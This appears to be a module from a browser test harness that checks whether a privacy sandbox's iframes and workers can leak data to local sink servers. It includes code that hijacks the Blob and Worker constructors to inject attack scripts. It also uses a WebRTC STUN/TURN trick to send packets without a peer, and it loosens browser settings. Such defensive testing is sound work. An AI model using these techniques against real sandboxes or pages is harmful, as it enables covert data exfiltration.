// Where attempts are made: in vaults of the real page, or in unprotected pages. Both are laid out alike. Place 0 holds
// the attempts that leave their document alone and its workers' attempts; each of the others has a frame to itself. The text that runs inside is made of helpers, the channels' attempts, and what starts them.
import { setTimeout as sleep } from "node:timers/promises";
import { CHANNELS } from "./channels.mjs";
import { DOMAIN } from "./sinks.mjs";

const STARTS = 60_000; // ms until a worker's first answer; only one that hangs needs so long
const HANGS = 10_000; // ms without an answer from a worker whose attempts together take three seconds

/** All attempts of one side, each {channel, place, run, to}. `own` is the address of the side's own origin. */
export async function makeAttempts(label, sinks, own, places, channels = CHANNELS) {
  const attempts = [];
  for (const channel of channels) {
    for (const place of places.filter((place) => channel[place])) {
      const token = `xf-${label}-${CHANNELS.indexOf(channel)}-${place}`;
      const to = {
        token,
        foreign: `${sinks.url}/${token}`,
        own: `${own}${token}`,
        named: `http://${token}.${DOMAIN}/`,
        socket: `${sinks.url.replace("http", "ws")}/${token}`,
        ...(channel.udp && { udp: await sinks.udp(token) }),
        ...(channel.tcp && { tcp: await sinks.tcp(token) }),
      };
      attempts.push({ channel, place, run: channel[place], to });
    }
  }
  return attempts;
}

const isApart = ({ channel, place }) =>
  place === "document" && (channel.alone || channel.click || channel.top || channel.reporting);

/** The pages of unprotected places, for openSinks. */
export const OPEN_PAGES = {
  "/open.html"(request, response, url) {
    const frames = url.searchParams
      .getAll("frame")
      .map((src, i) => `<div id="place-${i + 1}"><iframe src="${src}"></iframe></div>`);
    response
      .writeHead(200, { "Content-Type": "text/html" })
      .end(`<!doctype html><title>open</title><body>${frames.join("")}`);
  },
  "/reporting.html"(request, response, url) {
    const policy = `img-src 'none'; report-uri ${url.searchParams.get("to")}`;
    response
      .writeHead(200, { "Content-Type": "text/html", "Content-Security-Policy": policy })
      .end("<!doctype html><body>");
  },
};

/**
 * Makes attempts from unprotected pages. Resolves with {outcomes, witness, clipboard}: what became of each attempt by
 * token as far as it could be asked, a function that resolves with all that other pages of the site have noticed, and
 * what the clipboard held.
 */
export async function attackOpen(engine, sinks, attempts) {
  const apart = attempts.filter(isApart).filter(({ channel }) => !channel.top);
  const frames = apart.map(({ channel, to }) =>
    channel.reporting ? `/reporting.html?to=${to.foreign}` : "/open.html",
  );
  const page = await engine.open(
    `${sinks.url}/open.html?${frames.map((src) => `frame=${encodeURIComponent(src)}`).join("&")}`,
  );
  await page.evaluate(installWitness);
  const inWorker = attempts.filter(({ place }) => place === "worker");
  await page.evaluate(
    (text) => {
      window.workerOutcomes = {};
      window.worker = new Worker(URL.createObjectURL(new Blob([text])));
      window.worker.onmessage = (event) => Object.assign(window.workerOutcomes, event.data.exfiltration);
      window.worker.postMessage({ type: "boot" });
    },
    workerText(inWorker, { type: "boot" }),
  );
  const outcomes = await outcomesOf(page, inWorker);
  const together = attempts.filter((attempt) => attempt.place === "document" && !isApart(attempt));
  Object.assign(outcomes, await page.evaluate(attackText(together)));
  const clipboard = await attackApart(engine, sinks, page, apart, outcomes);
  for (const attempt of attempts.filter(({ channel }) => channel.top)) {
    const another = await engine.open(`${sinks.url}/open.html?frame=/open.html`);
    await another.frame("#place-1 iframe").evaluate(laterText([attempt]));
  }
  return { outcomes, clipboard, witness: () => page.evaluate(readWitness) };
}

/**
 * Makes attempts from vaults of the page at `url`. With `files`, a Parquet file and a workbook, the vault's own form is
 * used to have them read by the worker and decoded by the decoder, and their attempts are made meanwhile; without them
 * there is no decoder, and the worker's are made when it starts. `open` is run in the page and opens as many vaults.
 */
export async function attackVault(engine, sinks, url, attempts, { files, tries = 4, open = openVaults } = {}) {
  const page = await engine.open(url);
  const apart = attempts.filter(isApart);
  await page.evaluate(open, 1 + apart.length);
  await page.evaluate(installWitness);
  const vault = page.frame("#place-0 iframe");
  const inWorkers = attempts.filter(({ place }) => place !== "document");
  let outcomes = {};
  if (inWorkers.length > 0) {
    const from = (wanted) => attempts.filter(({ place }) => place === wanted);
    const worker = workerText(from("worker"), { type: files ? "readTarget" : "boot" });
    await vault.evaluate(joinWorkers, worker, files ? workerText(from("decoder"), { hold: true }) : undefined);
    await page.evaluate(() => window.startVault());
    if (files) {
      await vault.click("label", "moderate");
      await vault.setFiles("input[type=file]", ...files);
      await vault.shown("button", "Make the result");
    }
    outcomes = await outcomesOf(vault, inWorkers);
    const missing = inWorkers.filter(({ to }) => !(to.token in outcomes));
    if (missing.length > 0) {
      if (tries === 1) throw new Error(`a worker hangs at ${missing.map(({ channel }) => channel.name).join(", ")}`);
      // A worker hangs: the rest are made in another vault.
      Object.assign(
        outcomes,
        (await attackVault(engine, sinks, url, missing, { files, tries: tries - 1, open })).outcomes,
      );
    }
  }
  const together = attempts.filter((attempt) => attempt.place === "document" && !isApart(attempt));
  Object.assign(outcomes, await vault.evaluate(attackText(together)));
  const clipboard = await attackApart(engine, sinks, page, apart, outcomes);
  return { outcomes, clipboard, witness: () => page.evaluate(readWitness) };
}

/**
 * Makes from a page's own document the attempts that leave it where it is. Resolves as attackVault() does, with the
 * attempts that were made.
 */
export async function attackPage(engine, url, attempts) {
  const page = await engine.open(url);
  await page.evaluate(installWitness);
  const together = attempts.filter((attempt) => !isApart(attempt));
  const outcomes = await page.evaluate(attackText(together));
  return { attempts: together, outcomes, witness: () => page.evaluate(readWitness) };
}

/** What has become of the workers' attempts, when all are made or no more come. */
async function outcomesOf(place, attempts) {
  let [outcomes, count, since] = [{}, 0, Date.now()];
  while (count < attempts.length && Date.now() - since < (count === 0 ? STARTS : HANGS)) {
    outcomes = await place.evaluate(() => globalThis.workerOutcomes);
    if (Object.keys(outcomes).length !== count) [count, since] = [Object.keys(outcomes).length, Date.now()];
    else await sleep(50);
  }
  return outcomes;
}

/**
 * One frame for each, from place 1 on, those last that may take the page away. Resolves with what the clipboard held,
 * where it can be read.
 */
async function attackApart(engine, sinks, page, attempts, outcomes) {
  let clipboard;
  for (const [i, attempt] of [...attempts.entries()].sort(([, a], [, b]) => !!a.channel.top - !!b.channel.top)) {
    const place = page.frame(`#place-${i + 1} iframe`);
    if (attempt.channel.reporting) {
      Object.assign(outcomes, await place.evaluate(attackText([attempt])));
    } else if (attempt.channel.click) {
      await place.evaluate(clickText([attempt]));
      Object.assign(outcomes, await clicked(place, attempt));
    } else {
      await place.evaluate(laterText([attempt]));
    }
    if (attempt.channel.clipboard) clipboard = await readClipboard(engine, sinks);
  }
  return clipboard;
}

/**
 * Clicks until the document has noticed: a machine under load sometimes loses a click. A document that is gone has made
 * its attempt.
 */
async function clicked(place, { to }) {
  for (const end = Date.now() + STARTS; Date.now() < end; ) {
    await place.click("button", "attack");
    for (let waited = 0; waited < 3000; waited += 100) {
      // A document that goes while it is asked ends the question with an error; the next one finds it gone.
      const outcomes = await place
        .evaluate(() => globalThis.clicked ?? (document.querySelector("button") ? null : "gone"))
        .catch(() => null);
      if (outcomes) return outcomes === "gone" ? { [to.token]: "gone" } : outcomes;
      await sleep(100);
    }
  }
  throw new Error(`the click for ${to.token} never came`);
}

async function readClipboard(engine, sinks) {
  const page = await engine.open(`${sinks.url}/open.html`);
  const text = await engine.readClipboard?.(page);
  await page.close();
  return text;
}

// What follows runs in pages.

/**
 * Opens vaults with the module that the page's script contains, the first one on top and held back until startVault is
 * called, the others never started.
 */
async function openVaults(count) {
  // The page makes one ahead, in its own place. These come about as that one does.
  while (!document.querySelector("#vault-place iframe")) await new Promise((resolve) => setTimeout(resolve, 10));
  let loaded = 0;
  const add = HTMLIFrameElement.prototype.addEventListener;
  HTMLIFrameElement.prototype.addEventListener = function (type, start, options) {
    window.startVault = start;
    add.call(this, type, () => loaded++, options);
  };
  const at = (name) => new URL(name, document.baseURI).href;
  const { openVault } = await import(at("vault-files/host.js"));
  const data = new Uint8Array(await (await fetch(at("sample/source.csv"))).arrayBuffer());
  for (let i = count - 1; i >= 0; i--) {
    const place = document.createElement("div");
    place.id = `place-${i}`;
    document.body.prepend(place);
    await openVault(
      place,
      { sample: { data, name: "source.csv", url: at("sample/source.csv"), reading: { label: "price" } } },
      () => {},
    );
    if (i > 0) place.firstChild.style.height = "40px";
  }
  while (loaded < count) await new Promise((resolve) => setTimeout(resolve, 10));
}

/** The same in a kit, whose page has no modules to import: its own vault, and further frames of the same document. */
export async function openKitVaults(count) {
  // The kit has opened its vault by itself. The next is held back as those above are.
  while (document.body.dataset.step !== "request") await new Promise((resolve) => setTimeout(resolve, 10));
  let loaded = 0;
  const add = HTMLIFrameElement.prototype.addEventListener;
  HTMLIFrameElement.prototype.addEventListener = function (type, start, options) {
    window.startVault ??= start;
    add.call(this, type, () => loaded++, options);
  };
  document.getElementById("load-invited").click();
  while (!loaded || !document.querySelector("iframe.vault")) await new Promise((resolve) => setTimeout(resolve, 10));
  const frame = /** @type {HTMLIFrameElement} */ (document.querySelector("iframe.vault"));
  frame.parentElement.id = "place-0";
  for (let i = 1; i < count; i++) {
    const place = document.createElement("div");
    const other = document.createElement("iframe");
    place.id = `place-${i}`;
    for (const { name, value } of frame.attributes) other.setAttribute(name, value);
    other.addEventListener("load", () => {}, { once: true });
    document.body.append(place);
    place.append(other);
    other.style.height = "40px";
  }
  while (loaded < count) await new Promise((resolve) => setTimeout(resolve, 10));
}

/**
 * In the vault: has these texts stand before everything else in the worker that the vault will make and in its decoder,
 * and listens for their outcomes. Without a text for the decoder there will be none.
 */
function joinWorkers(forWorker, forDecoder) {
  globalThis.workerOutcomes = {};
  const { Blob, Worker } = globalThis;
  let last = false;
  globalThis.Blob = function (parts, options) {
    if (options?.type !== "text/javascript") return new Blob(parts, options);
    const isDecoder = parts.some((part) => typeof part === "string" && part.includes("privadaptServeFile({ ...data"));
    const text = isDecoder ? forDecoder : forWorker;
    last = isDecoder || forDecoder === undefined;
    return new Blob([text, ...parts], options);
  };
  globalThis.Blob.prototype = Blob.prototype; // files stay instances of it
  globalThis.Worker = function (...given) {
    if (last) Object.assign(globalThis, { Blob, Worker });
    const worker = new Worker(...given);
    worker.addEventListener("message", (event) => {
      if (!event.data.exfiltration) return;
      event.stopImmediatePropagation();
      Object.assign(globalThis.workerOutcomes, event.data.exfiltration);
    });
    return worker;
  };
}

/** What every attempt may use. Also inside the attack's text, so no imports. */
const HELPERS = {
  quiet: (promise) => void Promise.resolve(promise).catch(() => {}),
  /** Does all; throws only if none could be done. */
  all(...steps) {
    let done = 0;
    let problem;
    for (const step of steps) {
      try {
        step();
        done++;
      } catch (error) {
        problem = error;
      }
    }
    if (done === 0) throw problem;
  },
  add(name, properties) {
    const element = Object.assign(document.createElement(name), properties);
    document.body.append(element);
    return element;
  },
  /** WebRTC needs no partner to send packets: asking a STUN or TURN server for its address is enough. */
  connect(Connection, to) {
    const connection = new Connection({
      iceServers: [
        { urls: `stun:127.0.0.1:${to.udp}` },
        { urls: `turn:127.0.0.1:${to.tcp}?transport=tcp`, username: to.token, credential: to.token },
      ],
    });
    (globalThis.connections ??= []).push(connection); // or it may be collected before it has sent anything
    connection.createDataChannel(to.token);
    connection.setLocalDescription().catch(() => {});
  },
};

/** The text of a function expression, whichever way it was written as a property. */
const expression = (f) => String(f).replace(/^\w+\(/, "function (");

/**
 * The text of a function that makes attempts, each {name, run, to}, and returns what became of each by token: "tried"
 * or the error.
 */
function attackText(attempts) {
  const helpers = Object.entries(HELPERS).map(([name, f]) => `const ${name} = ${expression(f)};`);
  const tries = attempts.map(({ run, to }) => `attempt(${JSON.stringify(to)}, ${expression(run)});`);
  return `() => {
    ${helpers.join("\n")}
    const outcomes = {};
    const attempt = (to, run) => {
      try {
        run(to);
        outcomes[to.token] = "tried";
      } catch (error) {
        outcomes[to.token] = String(error);
      }
    };
    ${tries.join("\n")}
    return outcomes;
  }`;
}

/** The same, to be made when the driver has long had its answer: the document may not survive them. */
const laterText = (attempts) => `() => void setTimeout(${attackText(attempts)}, 300)`;

/** The same, on the next click on a button made for it; the outcomes are then in globalThis.clicked. */
const clickText = (attempts) => `() => {
  const button = document.createElement("button");
  button.textContent = "attack";
  document.body.prepend(button);
  button.addEventListener("click", () => (globalThis.clicked = (${attackText(attempts)})()));
}`;

/**
 * The text to put before a worker's own: after the first message of that type, when the worker's script has long run,
 * it makes the attempts one by one and posts what became of each as {exfiltration}. Those that start workers of their
 * own come last and apart: Firefox sometimes hangs when a worker starts one while it waits for something else. With
 * `hold` the worker itself gets the message only after that, for one that is ended when it has done its work.
 */
function workerText(attempts, { type, hold = false }) {
  let at = 0;
  const ordered = [...attempts].sort((a, b) => !!a.channel.nested - !!b.channel.nested);
  const tasks = ordered.map((attempt) => {
    at += attempt.channel.nested ? 500 : 10;
    return `setTimeout(() => postMessage({ exfiltration: (${attackText([attempt])})() }), ${at});`;
  });
  const held = `
    event.stopImmediatePropagation();
    setTimeout(() => dispatchEvent(new MessageEvent("message", { data: event.data })), ${at + 1000});`;
  return `addEventListener("message", function attack(event) {
    if (event.data.type !== ${JSON.stringify(type)}) return;
    removeEventListener("message", attack);${hold ? held : ""}
    ${tasks.join("\n")}
  });\n`;
}

/** In the site's page: notices what reaches other documents of the browser without a server. */
function installWitness() {
  window.noticed = [];
  addEventListener("message", (event) => window.noticed.push(JSON.stringify(event.data)));
  new BroadcastChannel("exfiltration").onmessage = (event) => window.noticed.push(JSON.stringify(event.data));
}

async function readWitness() {
  const databases = (await indexedDB.databases?.()) ?? [];
  return [
    ...window.noticed,
    ...Object.keys(localStorage),
    ...databases.map(({ name }) => name),
    ...((await globalThis.caches?.keys()) ?? []),
  ].join(" ");
}

/**
 * Browsers with as few restrictions as possible: a request that the browser itself or its driver blocks would prove
 * nothing.
 */
export const OPEN_SETTINGS = {
  chromium: {
    without: ["--disable-background-networking", "--disable-quic"],
  },
  firefox: {
    prefs: {
      "browser.send_pings": true,
      "dom.events.testing.asyncClipboard": true,
      "media.peerconnection.ice.loopback": true,
      "network.http.speculative-parallel-limit": 6,
    },
  },
  webkit: {},
};
